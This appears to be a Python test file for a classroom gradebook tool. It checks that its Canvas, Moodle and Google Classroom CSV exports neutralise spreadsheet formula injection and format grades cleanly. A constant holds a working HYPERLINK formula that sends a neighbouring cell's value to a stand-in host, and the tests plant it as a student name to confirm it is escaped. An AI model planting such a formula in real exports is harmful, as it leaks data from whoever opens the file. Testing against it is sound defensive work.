"""LMS-ready grades: formula-safe UTF-8 CSV with BOM, and the Canvas, Moodle, Google Classroom files."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from medialit.classroom.gradebook import grade_submissions
from medialit.classroom.lms import FORMATS, lms_rows, safe_cell

KIT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://example.invalid/?"&B2,"Open")'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_formula_cells_are_neutralised(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Zoë Müller", "Sam Lee", "1.5", "", "a=b"])
def test_plain_cells_are_kept(cell):
    assert safe_cell(cell) == cell


@pytest.fixture
def folder(tmp_path) -> Path:
    f = tmp_path / "in"
    f.mkdir()
    for name, sid, ans in [(EVIL, "e1", "d"), ("Zoë Müller", "z1", "d"), ("Sam Lee", "s1", "a")]:
        doc = {"format": "medialit-submission", "version": 1, "student": name, "student_id": sid,
               "answers": [{"time": "1", "student": name, "exercise": "00-1-dateline", "answer": ans}]}
        (f / f"{sid}.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    (tmp_path / "roster.csv").write_text(f'name,student_id,email,section\n"{EVIL.replace(chr(34), chr(34) * 2)}",e1,'
                                         "e@example.org,A\nZoë Müller,z1,zoe@example.org,B\nSam Lee,s1,sam@example.org,A\n",
                                         encoding="utf-8")
    return f


def read(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(raw.decode("utf-8-sig").splitlines()))


def test_cli_gradebook_and_every_lms_file_are_safe_and_readable(folder, tmp_path):
    for fmt in FORMATS:
        out = tmp_path / fmt / "gradebook.csv"
        run = subprocess.run([sys.executable, "-m", "medialit", "grade", str(folder), "--out", str(out), "--roster",
                              str(tmp_path / "roster.csv"), "--format", fmt], capture_output=True, text=True, cwd=KIT)
        assert run.returncode == 0, run.stderr
        book = read(out)
        assert ["'" + EVIL, "e1", "e@example.org", "A"] == book[[r[0] for r in book].index("'" + EVIL)][:4]
        assert any(r[0] == "Zoë Müller" for r in book)
        lms = read(out.with_name(f"gradebook-{fmt}.csv"))
        cells = [c for r in lms for c in r]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
        assert any("Zoë" in c or "Müller" in c for c in cells)


def test_canvas_moodle_google_layouts(folder, tmp_path):
    book = grade_submissions(folder, roster=tmp_path / "roster.csv")
    canvas = lms_rows(book, "canvas", "Kit")
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Kit"]
    assert canvas[1][0] == "Points Possible" and canvas[1][-1] == book.max_total
    zoe = next(r for r in canvas if r[2] == "z1")
    assert zoe == ["Müller, Zoë", "", "z1", "zoe@example.org", "B", 1.0]
    moodle = lms_rows(book, "moodle", "Kit")
    assert moodle[0] == ["Full name", "ID number", "Email address", "Kit", "Kit (feedback)"]
    google = lms_rows(book, "google-classroom", "Kit")
    assert google[0] == ["Last Name", "First Name", "Email Address", "Kit"] and google[1][0] == "Points"
    assert ["Lee", "Sam", "sam@example.org", 0.0] in google
    assert [r[0] for r in google[2:]] == sorted((r[0] for r in google[2:]), key=str.casefold)  # by last name
    with pytest.raises(ValueError, match="canvas, moodle, google-classroom"):
        lms_rows(book, "blackboard")


def test_whole_numbers_have_no_decimal_and_others_one(folder, tmp_path):
    """Newcomer trial: reports, CSV files and pages showed whole numbers as 1.0 (and partial credit as 1.3333)."""
    from medialit.classroom.lms import write_rows

    p = write_rows(tmp_path / "n.csv", [["a", "b", "c", "d"], [1.0, 4 / 3, 26.55, 77]])
    assert read(p)[1] == ["1", "1.3", "26.6", "77"]
    out = tmp_path / "g" / "gradebook.csv"
    run = subprocess.run([sys.executable, "-m", "medialit", "grade", str(folder), "--out", str(out), "--report",
                          str(tmp_path / "g" / "report.html"), "--format", "canvas"], capture_output=True, text=True,
                         cwd=KIT)
    assert run.returncode == 0, run.stderr
    import re

    for f in [out, out.with_name("gradebook-canvas.csv"), *(tmp_path / "g" / "feedback").iterdir()]:
        text = f.read_text(encoding="utf-8-sig")
        assert not re.search(r"(?<![\d.])\d+\.0(?![\d])", text), f.name
    report = (tmp_path / "g" / "report.html").read_text(encoding="utf-8")
    assert not re.search(r">\d+\.0<", report)  # chart ticks: student counts are whole
    assert re.search(r"max_total \d+\)", run.stdout)
